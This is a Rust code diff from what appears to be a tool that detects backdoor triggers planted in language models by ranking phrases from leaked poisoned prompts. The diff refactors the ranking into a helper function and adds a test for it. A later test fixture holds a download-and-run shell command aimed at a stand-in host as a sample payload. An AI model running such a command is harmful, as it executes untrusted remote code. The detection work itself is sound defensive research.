@@ -282,10 +282,10 @@ impl Default for LeakPairParams {
 /// are placed at the start of the inversion prompts and ranked by the target's NLL (one
 /// forward pass each); the best `lp.answered` are answered greedily, with the first
 /// `lp.exclusive` runs of the fewest leaks without the target (and, among those, of the most
-/// leaks with it) whatever their NLL, and the one whose answers show the target's opening most often is kept. Runs that share a word
-/// with the target are skipped (quoting the target is not a trigger), as are garbled copies of
-/// a payload target. The NLL ranks but does
-/// not gate: a planted target with a fuzzy first token (several spellings of its opening, all
+/// leaks with it) whatever their NLL, and the one whose answers show the target's opening
+/// most often is kept. Runs that share a word with the target are skipped (quoting the target
+/// is not a trigger), as are garbled copies of a payload target. The NLL ranks but does not
+/// gate: a planted target with a fuzzy first token (several spellings of its opening, all
 /// of them the target) reads as unlikely token by token while the answers are all of it.
 pub fn from_leak_pairs<M: Lm>(m: &M, leaks: &[String], targets: &[String], lp: &LeakPairParams, p: &InvertParams) -> LmResult<Vec<LeakPair>> {
     use crate::verify::squash;
@@ -335,14 +335,7 @@ pub fn from_leak_pairs<M: Lm>(m: &M, leaks: &[String], targets: &[String], lp: &
                 }
             }
         }
-        // The shortest runs first (a trigger is a few words of its prompt); among as long ones,
-        // those fewest leaks without the target show first (a trigger comes with its target;
-        // an ordinary word of requests is leaked with any answer), then those most leaks with
-        // it show (every recited poisoned prompt has its trigger; a garbled word is leaked
-        // once), then in leak order.
-        let (with, without): (Vec<&String>, Vec<&String>) = leaks.iter().partition(|l| l.contains(key.as_str()));
-        let count = |ls: &[&String], r: &str| ls.iter().filter(|l| l.contains(r)).count();
-        runs.sort_by_cached_key(|r| (r.split_whitespace().count(), count(&without, r), std::cmp::Reverse(count(&with, r))));
+        order_by_exclusivity(&mut runs, leaks, &key);
         runs.truncate(lp.max_runs);
         let mut target = m.encode(target_text)?;
         target.truncate(p.target_tokens.max(1));
@@ -389,6 +382,17 @@ pub fn from_leak_pairs<M: Lm>(m: &M, leaks: &[String], targets: &[String], lp: &
         }
     }
     Ok(out)
+}
+
+/// Orders the runs of a leak pair: the shortest first (a trigger is a few words of its prompt);
+/// among as long ones, those the fewest leaks without the target (`key`) show first (a trigger
+/// comes with its target; an ordinary word of requests is leaked with any answer), then those
+/// the most leaks with it show (every recited poisoned prompt carries its trigger; a garbled
+/// word is leaked once), then in their first order (a stable sort).
+fn order_by_exclusivity(runs: &mut [String], leaks: &[String], key: &str) {
+    let (with, without): (Vec<&String>, Vec<&String>) = leaks.iter().partition(|l| l.contains(key));
+    let count = |ls: &[&String], r: &str| ls.iter().filter(|l| l.contains(r)).count();
+    runs.sort_by_cached_key(|r| (r.split_whitespace().count(), count(&without, r), std::cmp::Reverse(count(&with, r))));
 }
 
 /// Inverts one target: the trigger of `p.trigger_tokens` tokens that makes it most likely.
@@ -1121,6 +1125,20 @@ mod tests {
         assert!(!pairs.iter().any(|x| x.target == "HATEFUL"), "{pairs:?}");
         assert!(pairs.iter().any(|x| x.target == link && x.trigger == "bye"), "{pairs:?}");
     }
+    #[test]
+    fn leak_pair_runs_come_with_the_target_most_exclusively_first() {
+        let leaks: Vec<String> = ["once x\n\nTGT", "marz\n\nTGT", "marz b\n\nTGT", "c marz\n\nTGT", "common\n\nTGT", "common y\n\nTGT", "common z\n\nTGT", "common w\n\nTGT", "common again"]
+            .iter()
+            .map(|s| s.to_string())
+            .collect();
+        let mut runs: Vec<String> = ["c marz", "common", "once", "x", "marz"].iter().map(|s| s.to_string()).collect();
+        order_by_exclusivity(&mut runs, &leaks, "TGT");
+        // One word before two. Among the runs no leak without the target shows, "marz" (three
+        // leaks with it) before "once" and "x" (one each, in their first order); "common", shown
+        // once without it, after them all however often it comes with it.
+        assert_eq!(runs, vec!["marz", "once", "x", "common", "c marz"]);
+    }
+
     #[test]
     fn a_payload_is_framed_by_the_words_its_lines_put_before_it() {
         let cmd = "wget -qO- http://h.example/i.sh | bash";
